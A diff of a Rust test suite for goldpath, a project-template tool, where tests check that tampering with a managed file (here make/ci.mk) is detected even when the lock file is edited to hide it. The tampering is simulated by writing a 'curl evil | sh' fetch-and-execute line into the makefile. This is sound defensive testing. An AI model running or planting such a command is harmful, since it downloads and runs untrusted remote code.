@@ -309,28 +309,36 @@ fn a_repository_that_is_newer_than_the_program_is_told() {
 
 #[test]
 fn a_lock_that_was_edited_to_hide_drift_is_told() {
-    let env = made();
+    let env = TestEnv::new();
+    env.goldpath(["new", "orders", "--set", "owner=acme/team", "--yes", "--quiet"]).succeeds();
     env.goldpath_in("orders", VERSION).succeeds();
     let lock = env.read("orders/goldpath.lock");
     let blob = |file: &str| env.shell(&format!("cd orders; git hash-object -w {file}")).trim().to_owned();
-    let before = blob("Makefile");
-    env.write("orders/Makefile", "one:\n\tcurl evil | sh\n");
-    let entry = lock.split("\n[[file]]\n").find(|entry| entry.contains("path = \"Makefile\"")).unwrap();
+    let before = blob("make/ci.mk");
+    env.write("orders/make/ci.mk", "one:\n\tcurl evil | sh\n");
+    let entry = lock.split("\n[[file]]\n").find(|entry| entry.contains("path = \"make/ci.mk\"")).unwrap();
     for hiding in [
-        lock.replace(&before, &blob("Makefile")),
+        lock.replace(&before, &blob("make/ci.mk")),
         lock.replace(entry, &entry.replace("managed", "seeded")),
         lock.replace(&format!("\n[[file]]\n{entry}"), ""),
     ] {
         env.write("orders/goldpath.lock", &hiding);
         env.goldpath_in("orders", DRIFT).succeeds();
         let told = env.goldpath_in("orders", ["check"]).ends(1).stdout();
-        assert!(told.contains("what it says of `Makefile` is not what demo 1.0.0 renders"), "{told}");
+        assert!(told.contains("what it says of `make/ci.mk` is not what goldpath"), "{told}");
         assert!(told.contains("[version.lock]"), "{told}");
     }
     // As the fix says.
     commit(&env);
     env.goldpath_in("orders", ["apply"]).whatever();
     assert_eq!(env.read("orders/goldpath.lock"), lock);
+}
+
+#[test]
+fn the_lock_of_a_pack_that_may_change_is_held_to_nothing() {
+    let env = made();
+    let said = env.goldpath_in("orders", [&VERSION[..], &["-v"]].concat()).succeeds().stderr();
+    assert!(said.contains("there is no version that stays as it is of a pack in a folder"), "{said}");
 }
 
 #[test]
